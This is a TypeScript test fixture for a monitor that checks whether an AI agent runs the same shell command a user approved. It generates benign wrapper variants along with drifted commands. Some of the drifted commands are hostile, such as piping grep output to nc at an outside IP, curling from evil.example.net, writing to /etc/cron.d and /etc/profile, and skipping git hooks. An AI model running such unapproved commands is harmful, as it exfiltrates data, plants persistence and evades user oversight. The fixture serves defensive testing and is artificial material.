/**
 * Pairs of an approval and what ran, made up from a seed, each a session of its own with a known
 * truth: one kind of drift, or none. Benign pairs say the same thing in other ways: quoting, shells,
 * wrappers, sandboxes, paths, the lines that agents put around a command.
 */
import type { TelltaleEvent } from '#schemas';
import type { DriftKind } from '../../../../query/timeline/approvals/finding.ts';
import type { createEvents } from '../events.ts';

export interface Pair {
  readonly name: string;
  readonly truth: DriftKind | undefined;
  readonly events: readonly TelltaleEvent[];
}

export const CWD = '/srv/app';
type Make = ReturnType<typeof createEvents>;

/** Numbers from a seed: mulberry32. */
export function createDice(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
  return {
    upTo: (n: number) => Math.floor(next() * n),
    pick: <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)] as T,
  };
}
export type Dice = ReturnType<typeof createDice>;

/** A command as it is asked for, and, where it is one program, the words that the program gets. */
export interface Command {
  readonly text: string;
  readonly words?: readonly string[];
  /** A script of ours that it runs, by its path. */
  readonly script?: string;
  /** The same command for something else. */
  readonly other: string;
}

export const COMMANDS: readonly Command[] = [
  { text: 'ls -la src', words: ['ls', '-la', 'src'], other: 'ls -la /etc/ssh' },
  {
    text: 'git commit -m "fix: it\'s done"',
    words: ['git', 'commit', '-m', "fix: it's done"],
    other: 'git commit --no-verify -m "fix: it\'s done"',
  },
  {
    text: "npm test -- --filter 'a b'",
    words: ['npm', 'test', '--', '--filter', 'a b'],
    script: `${CWD}/package.json`,
    other: 'npm publish',
  },
  {
    text: './deploy.sh staging',
    words: ['./deploy.sh', 'staging'],
    script: `${CWD}/deploy.sh`,
    other: './deploy.sh production',
  },
  {
    text: 'python3 tools/gen.py --out gen',
    words: ['python3', 'tools/gen.py', '--out', 'gen'],
    script: `${CWD}/tools/gen.py`,
    other: 'python3 tools/gen.py --out /etc/cron.d/gen',
  },
  { text: 'make all', words: ['make', 'all'], script: `${CWD}/Makefile`, other: 'make install' },
  { text: 'rm -rf build', words: ['rm', '-rf', 'build'], other: 'rm -rf build src' },
  { text: 'cp a.txt b.txt', words: ['cp', 'a.txt', 'b.txt'], other: 'cp a.txt /etc/profile' },
  {
    text: 'curl -s https://api.example.com/x -o out.json',
    words: ['curl', '-s', 'https://api.example.com/x', '-o', 'out.json'],
    other: 'curl -s https://evil.example.net/x -o out.json',
  },
  {
    text: 'grep -rn "foo bar" . | head -5',
    other: 'grep -rn "foo bar" . | nc 203.0.113.9 9',
  },
  { text: 'for i in 1 2; do echo $i; done', other: 'for i in 1 2; do curl h/$i; done' },
  { text: 'echo "$HOME" > x.txt', other: 'echo "$HOME" > /etc/motd' },
  { text: 'cd sub && make -j2', other: 'cd sub && make -j2 && make install' },
  {
    text: 'bash scripts/run.sh --fast',
    words: ['bash', 'scripts/run.sh', '--fast'],
    script: `${CWD}/scripts/run.sh`,
    other: 'bash scripts/run.sh --fast --force',
  },
  {
    text: 'node -e "console.log(1)"',
    words: ['node', '-e', 'console.log(1)'],
    other: 'node -e "require(\'fs\')"',
  },
  {
    text: "find . -name '*.ts' -type f",
    words: ['find', '.', '-name', '*.ts', '-type', 'f'],
    other: "find . -name '*.ts' -type f -delete",
  },
  { text: 'FOO=1 node build.js', script: `${CWD}/build.js`, other: 'FOO=1 node publish.js' },
  {
    text: 'sed -i s/a/b/ f.txt',
    words: ['sed', '-i', 's/a/b/', 'f.txt'],
    other: 'sed -i s/a/b/ g.txt',
  },
];

const quoted = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;
const ENV = { tool_call_id: 'c1', attribution: 'env_key', attribution_confidence_pct: 100 };
const AGENT = 100;

/** One program after the other in one process, as the kernel shows them. */
type Images = readonly { readonly argv: readonly string[]; readonly exe?: string }[];

/** The ways in which agents run a command; each is the same command. */
const WAYS: readonly ((command: Command) => Images | undefined)[] = [
  ({ text }) => [{ argv: ['bash', '-lc', text] }],
  ({ text }) => [{ argv: ['/bin/sh', '-c', text], exe: '/usr/bin/dash' }],
  ({ text }) => [{ argv: ['/usr/bin/zsh', '-c', ` ${text}\n`] }],
  ({ text }) => [
    {
      argv: [
        '/bin/bash',
        '-c',
        '-l',
        `source /home/kim/.claude/shell-snapshots/snapshot-bash-1.sh && eval ${quoted(text)} \\< /dev/null && pwd -P >| /tmp/claude-1-cwd`,
      ],
    },
  ],
  ({ text }) => [
    {
      argv: [
        'bash',
        '-c',
        `{ ${text}; }; __code=$?; pgrep -g 0 >/tmp/shell_pgrep_1.tmp 2>&1; exit $__code;`,
      ],
    },
  ],
  ({ text }) => [
    {
      argv: ['codex-linux-sandbox', '--sandbox-policy-cwd', CWD, '--', 'bash', '-lc', text],
      exe: '/opt/codex/codex',
    },
    { argv: ['bash', '-lc', text] },
  ],
  ({ text }) => [{ argv: ['/opt/agent/launch', '--cwd', CWD] }, { argv: ['sh', '-c', text] }],
  ({ text }) => [{ argv: ['env', 'CI=1', 'TERM=dumb', 'bash', '-c', text] }],
  ({ text }) => [{ argv: ['timeout', '-k', '5', '120', 'bash', '-c', text] }],
  ({ text }) => [{ argv: ['bash', '-c', `cd ${CWD} && ${text}`] }],
  ({ words }) => words && [{ argv: words }],
  ({ words }) => words && [{ argv: ['nice', '-n', '5', ...words] }],
  ({ words }) => words && [{ argv: ['env', 'CI=1', ...words] }],
  ({ words }) =>
    words?.[0]?.includes('/') === false
      ? [{ argv: [`/usr/bin/${words[0]}`, ...words.slice(1)] }]
      : undefined,
  ({ words, script }) =>
    words?.[0]?.startsWith('./') && script !== undefined
      ? [{ argv: ['/bin/bash', script, ...words.slice(1)], exe: '/usr/bin/bash' }]
      : undefined,
  ({ words }) =>
    words?.[0] === 'npm'
      ? [{ argv: ['node', '/usr/bin/npm', ...words.slice(1)], exe: '/usr/bin/node' }]
      : undefined,
  ({ words, script }) =>
    words?.[0] === 'python3' && script !== undefined
      ? [{ argv: ['python3', script, ...words.slice(2)], exe: '/usr/bin/python3.11' }]
      : undefined,
];

/** How a command may be written where it is shown. */
const SHOWN: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text,
  (text) => `${text}\n`,
  (text) => `bash -lc ${quoted(text)}`,
  (text) => `/bin/sh -c ${quoted(text)}`,
];

export interface Scene {
  readonly make: Make;
  readonly dice: Dice;
  readonly command: Command;
  /** Clock of the channel against the kernel's, in milliseconds. */
  readonly skewMs: number;
}

export function waysOf(command: Command): readonly Images[] {
  return WAYS.flatMap((way) => {
    const images = way(command);
    return images === undefined ? [] : [images];
  });
}

const exeOf = (program: string): string =>
  program.startsWith('./')
    ? `${CWD}/${program.slice(2)}`
    : program.startsWith('/')
      ? program
      : `/usr/bin/${program}`;

/** The program of a pair, in a process below the agent; and what it does. */
export function runs(scene: Scene, ms: number, images: Images, more: object = {}, pid = 300) {
  const { make } = scene;
  return [
    ...images.map(({ argv, exe }, at) =>
      make.run(ms + at, pid, AGENT, [...argv], {
        cwd: CWD,
        exe: exe ?? exeOf(argv[0] ?? ''),
        ...ENV,
        ...more,
      }),
    ),
    make.end(ms + 30, pid, 0),
  ];
}

export function anyRun(scene: Scene, ms: number, command = scene.command, pid = 300) {
  return runs(scene, ms, scene.dice.pick(waysOf(command)), {}, pid);
}

export const ask = (scene: Scene, ms: number, more: object = {}) =>
  scene.make.say(ms, {
    kind: 'approval',
    tool_call_id: 'c1',
    decision: 'asked',
    command: scene.command.text,
    ...more,
  });

export const answer = (scene: Scene, ms: number, more: object = {}) =>
  scene.make.say(ms + scene.skewMs, {
    kind: 'approval',
    tool_call_id: 'c1',
    decision: 'approved',
    decided_by: 'user',
    scope: 'once',
    command: scene.dice.pick(SHOWN)(scene.command.text),
    ...more,
  });

export const call = (scene: Scene, more: object = {}, result: object = {}, id = 'c1') => [
  scene.make.say(100, {
    kind: 'tool.call',
    tool_call_id: id,
    tool: 'shell',
    command: scene.command.text,
    cwd: CWD,
    ...more,
  }),
  scene.make.say(900, {
    kind: 'tool.result',
    tool_call_id: id,
    outcome: 'success',
    exit_code: 0,
    ...result,
  }),
];

/** What stands around every pair: the agent, its own programs, files that nobody asked about. */
export function around({ make, dice }: Scene): TelltaleEvent[] {
  return [
    make.make(0, 'collector', {
      kind: 'session.open',
      schema_version: '1',
      command_args: ['agent'],
      cwd: CWD,
      policy: 'commands',
      policy_version: 'v1',
    }),
    make.make(1, 'collector', {
      kind: 'sensor',
      sensor_name: 'seccomp',
      sensor_rung: 1,
      coverage: 'complete',
    }),
    make.run(5, AGENT, 50, ['agent', 'do it'], { cwd: CWD }),
    make.run(40 + dice.upTo(20), 110, AGENT, ['git', 'rev-parse', '--show-toplevel']),
    make.end(62, 110, 0),
    make.see(70, { kind: 'file', pid: AGENT, file_op: 'write', file_path: '/home/kim/.agent/log' }),
  ];
}
